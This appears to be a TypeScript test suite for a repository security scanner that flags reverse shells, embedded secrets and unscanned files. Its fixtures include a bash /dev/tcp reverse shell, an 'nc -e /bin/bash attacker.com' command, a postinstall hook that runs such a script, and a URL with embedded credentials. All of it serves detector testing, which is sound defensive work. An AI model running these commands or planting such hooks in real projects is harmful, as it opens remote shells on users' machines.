import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import type { Check } from '../src/check.ts';
import type { FileObservations } from '../src/facts/observations.ts';
import { ENGINE_VERSION, memoryTree, planChecks, scan, standardPlan } from '../src/index.ts';

const shell = { 'run.sh': 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' };

/** A check that says of every text with `word` what it is told to. */
function checkThat(changes: Partial<Check>): Check {
  const check: Check = {
    id: 'rce-test',
    title: 'Test',
    severity: 'low',
    kind: 'vuln',
    confidence: 'high',
    since: '0.1.0',
    cwe: [1],
    why: 'Because.',
    blindSpots: 'Nothing.',
    fix: 'Do.',
    wants: { keywords: ['word'] },
    examples: { bad: [], good: [] },
    *find({ windows }) {
      for (const window of windows) {
        for (const match of window.text.matchAll(/word/g))
          yield { at: window.span(match.index, match.index + 4), message: 'A word.' };
      }
    },
  };
  // Only fields of a file check are changed here.
  return { ...check, ...changes } as Check;
}

test('a report has what the contract asks for', async () => {
  const report = await scan(
    memoryTree({
      ...shell,
      'src/a.py': 'print(1)\nprint(2)\n',
      'logo.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0]),
    }),
  );

  const [finding] = report.findings;
  assert.equal(finding?.id, 'finding_1');
  assert.equal(finding?.checkId, 'rce-reverse-shell');
  assert.deepEqual([finding?.file, finding?.line, finding?.endLine, finding?.context], ['run.sh', 1, 1, 'runtime']);
  assert.deepEqual(finding?.cwe, ['CWE-506']);
  assert.match(finding?.fingerprint ?? '', /^[0-9a-f]{32}$/);
  assert.deepEqual([report.grade, report.safetyGrade], ['F', 'F']);
  assert.deepEqual(report.languages, { python: 2, shell: 1 });
  assert.deepEqual(report.coverage.skipped, [{ reason: 'binary', count: 1, files: ['logo.png'] }]);
  assert.deepEqual([report.coverage.filesTotal, report.coverage.filesScanned, report.coverage.partial], [3, 2, false]);
  assert.equal(report.files.find((file) => file.path === 'logo.png')?.format, 'png');
});

test('the fingerprint stays when lines move', async () => {
  const before = await scan(memoryTree(shell));
  const after = await scan(memoryTree({ 'run.sh': `\n\n# moved\n  ${shell['run.sh']}` }));

  assert.equal(after.findings[0]?.line, 4);
  assert.equal(after.findings[0]?.fingerprint, before.findings[0]?.fingerprint);
});

test('a check that throws is named, the others go on, and the score is capped', async () => {
  const broken = checkThat({
    id: 'rce-broken',
    find() {
      throw new RangeError('too much');
    },
  });
  const plan = await planChecks([broken, checkThat({})]);

  const report = await scan(memoryTree({ 'a.ts': 'word' }), { plan });

  assert.deepEqual(report.coverage.checksNotRun, [{ checkId: 'rce-broken', reason: 'RangeError in one file' }]);
  assert.deepEqual(
    report.findings.map((finding) => finding.checkId),
    ['rce-test'],
  );
  assert.ok(report.coverage.partial);
  assert.ok(report.score <= 89);
});

test('files left when time is up are a gap, and the report is whole', async () => {
  let files = 0;
  const report = await scan(memoryTree({ 'a.py': '', 'b.py': '', 'c.py': '' }), { shouldStop: () => files++ >= 1 });

  assert.deepEqual(report.coverage.skipped, [{ reason: 'timedOut', count: 2, files: ['b.py', 'c.py'] }]);
  assert.deepEqual([report.coverage.filesTotal, report.coverage.filesScanned, report.coverage.partial], [3, 1, true]);
  assert.equal(report.score, 89);
});

test('declarations that could not be read are told, and leave nothing unseen that runs', async () => {
  const broken = `eval(x);${'export type A = {{{{ <<<< ;;;; ))))\n'.repeat(40)}`;
  const { coverage } = await scan(memoryTree({ 'index.d.ts': broken }));
  const code = await scan(memoryTree({ 'index.ts': broken }));

  assert.deepEqual([coverage.skipped.map(({ reason }) => reason), coverage.partial], [['syntax'], false]);
  assert.deepEqual([code.coverage.skipped.map(({ reason }) => reason), code.coverage.partial], [['syntax'], true]);
});

test('gaps of the tree reach coverage', async () => {
  const tree = { ...memoryTree({ 'a.py': '' }), gaps: [{ reason: 'overLimit', count: 7 }] as const };

  const { coverage } = await scan(tree);

  assert.deepEqual(coverage.skipped, [{ reason: 'overLimit', count: 7, files: [] }]);
  assert.deepEqual([coverage.filesTotal, coverage.partial], [8, true]);
});

test('a file too large is a gap, an LFS pointer and a submodule are named', async () => {
  const { coverage } = await scan(
    memoryTree({
      'big.py': 'x\n'.repeat(3 * 1024 * 1024),
      'model.bin': 'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n',
      lib: { mode: 'submodule', content: '' },
    }),
  );

  assert.deepEqual(
    coverage.skipped.map((skip) => skip.reason),
    ['large', 'lfsPointer', 'submodule'],
  );
  assert.ok(coverage.partial);
});

test('code that is kept elsewhere or cannot be read as text is code that was not looked at', async () => {
  const pointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n';
  const beside = { 'README.md': 'Notes.\n' };
  const seen = async (files: Parameters<typeof memoryTree>[0]): Promise<readonly [boolean, boolean]> => {
    const { coverage, score } = await scan(memoryTree({ ...beside, ...files }));
    return [coverage.partial, score <= 89];
  };

  assert.deepEqual(await seen({ 'app.js': pointer }), [true, true]);
  assert.deepEqual(await seen({ 'app.py': 'x = 1\n# \u0000\u0001\n' }), [true, true]);
  assert.deepEqual(await seen({ 'model.bin': pointer, 'film.ts': 'G\u0000\u0001' }), [false, false]);
  assert.deepEqual(await seen({ lib: { mode: 'submodule', content: '' } }), [false, false]);
});

test('where nothing at all could be read, no grade says that all is well', async () => {
  for (const files of [
    { lib: { mode: 'submodule', content: '' } },
    { 'logo.png': '\u0089PNG\r\n\u001a\n\u0000' },
  ] as const) {
    const { coverage, score, safetyScore } = await scan(memoryTree(files));

    assert.deepEqual([coverage.filesScanned, coverage.partial, score, safetyScore], [0, true, 89, 89]);
  }
});

test('one line is reported once by one check, and too many findings are counted', async () => {
  const plan = await planChecks([checkThat({})]);

  const once = await scan(memoryTree({ 'a.ts': 'word word' }), { plan });
  const flood = await scan(memoryTree({ 'a.ts': 'word\n'.repeat(1500) }), { plan });

  assert.equal(once.findings.length, 1);
  assert.equal(flood.findings.length, 1000);
  assert.ok(flood.coverage.partial);
});

test('findings come worst first, then by file and line', async () => {
  const plan = await planChecks([checkThat({}), checkThat({ id: 'rce-worse', severity: 'high' })]);

  const { findings } = await scan(memoryTree({ 'b.ts': '\nword', 'a.ts': 'word' }), { plan });

  assert.deepEqual(
    findings.map((finding) => `${finding.severity} ${finding.file} ${finding.id}`),
    ['high a.ts finding_1', 'high b.ts finding_2', 'low a.ts finding_3', 'low b.ts finding_4'],
  );
});

test('an attack that is only quoted is a doubt, one that a hook starts is not', async () => {
  const quoted = await scan(memoryTree({ 'test/run.sh': shell['run.sh'] }));
  const started = await scan(
    memoryTree({ 'test/run.sh': shell['run.sh'], 'package.json': '{"scripts": {"postinstall": "sh test/run.sh"}}' }),
  );

  const seen = (report: typeof quoted): unknown =>
    report.findings
      .filter((finding) => finding.checkId === 'rce-reverse-shell')
      .map(({ context, confidence }) => [context, confidence]);
  const carried = {
    'tests/fixtures/a/run.sh': shell['run.sh'],
    'tests/fixtures/a/package.json': '{"scripts": {"postinstall": "sh run.sh"}}',
  };
  const alone = await scan(memoryTree(carried));
  const fixture = await scan(memoryTree({ ...carried, 'package.json': '{"name": "own"}' }));
  assert.deepEqual(seen(quoted), [['test', 'low']]);
  assert.deepEqual(seen(fixture), [['test', 'low']]);
  assert.deepEqual(seen(alone), [['runtime', 'high']]);
  assert.deepEqual(seen(started), [['runtime', 'high']]);
  assert.equal(started.score, 39);
});

test('tests that stand in the file they test are tests, and what comes behind them is not', async () => {
  const url = 'let url = "https://deploy:Xk29vQpL@registry.acme.io/v2";';
  const { findings } = await scan(
    memoryTree({
      'src/client.rs': `fn a() {\n    ${url}\n}\n\n#[cfg(test)]\nmod tests {\n    fn b() {\n        ${url}\n    }\n}\n\n#[cfg(all(test, feature = "tls"))]\nmod more {\n    ${url}\n}\n\nfn c() {\n    ${url}\n}\n`,
    }),
  );

  assert.deepEqual(
    findings.filter(({ category }) => category === 'secrets').map(({ line, context }) => [line, context]),
    [
      [2, 'runtime'],
      [8, 'test'],
      [14, 'test'],
      [18, 'runtime'],
    ],
  );
});

test('an unchanged file is served from the cache, a changed one is not', async () => {
  const kept = new Map<string, FileObservations>();
  const cache = {
    get: (key: string) => Promise.resolve(kept.get(key)),
    // Only what survives JSON may cross processes.
    put: (key: string, value: FileObservations) =>
      Promise.resolve(void kept.set(key, JSON.parse(JSON.stringify(value)) as FileObservations)),
  };
  let calls = 0;
  const counting = checkThat({
    find() {
      calls += 1;
      return [];
    },
  });
  const plan = await planChecks([counting]);

  await scan(memoryTree({ 'a.ts': 'word', 'b.ts': 'word' }), { plan, cache });
  await scan(memoryTree({ 'a.ts': 'word', 'b.ts': 'word word' }), { plan, cache });

  assert.equal(calls, 3);
});

test('a kept result is not used once a file it rests on has changed', async () => {
  const kept = new Map<string, FileObservations>();
  const cache = {
    get: (key: string) => Promise.resolve(kept.get(key)),
    put: (key: string, value: FileObservations) => Promise.resolve(void kept.set(key, value)),
  };
  const manifest = '{"dependencies": {"left": "1.0.0"}}';
  const isLocked = async (files: Record<string, string>): Promise<boolean | undefined> => {
    const { notes } = await scan(memoryTree(files), { cache });
    return notes.find((note) => note.kind === 'dependency')?.locked;
  };

  assert.equal(await isLocked({ 'package.json': manifest }), false);
  assert.equal(await isLocked({ 'package.json': manifest, 'package-lock.json': '{}' }), true);
});

test('progress is told file by file', async () => {
  const told: string[] = [];
  await scan(memoryTree({ a: '', b: '' }), { onFile: (done, total, path) => told.push(`${done}/${total} ${path}`) });

  assert.deepEqual(told, ['1/2 a', '2/2 b']);
});

test('the answer does not depend on the order of the tree', async () => {
  const tree = memoryTree({ ...shell, 'a.sh': shell['run.sh'], 'b.py': 'x = 1\n' });

  const forward = await scan(tree);
  const backward = await scan({ ...tree, entries: tree.entries.toReversed() });

  assert.deepEqual(backward, forward);
});

test('the version of the engine is that of its package', async () => {
  const manifest: unknown = JSON.parse(await readFile(new URL('../package.json', import.meta.url), 'utf8'));

  assert.equal(Reflect.get(Object(manifest), 'version'), ENGINE_VERSION);
});

test('the standard plan is made once', async () => {
  assert.equal(await standardPlan(), await standardPlan());
});

test('translations that end like TypeScript are none', async () => {
  const { coverage } = await scan(
    memoryTree({ 'i18n/de.ts': '<?xml version="1.0"?>\n<!DOCTYPE TS>\n<TS version="2.1"><context></context></TS>\n' }),
  );
  assert.deepEqual(coverage.skipped, []);
});

test('an attack that a test of Rust quotes makes no package hostile', async () => {
  const quoted = 'let command = "nc -e /bin/bash attacker.com 4444";';
  const { findings, score } = await scan(
    memoryTree({
      'src/scanner.rs': `fn a() {}\n\n#[cfg(test)]\nmod tests {\n    fn b() {\n        ${quoted}\n    }\n}\n`,
    }),
  );
  assert.ok(findings.every(({ context }) => context === 'test'));
  assert.ok(score > 95);
});
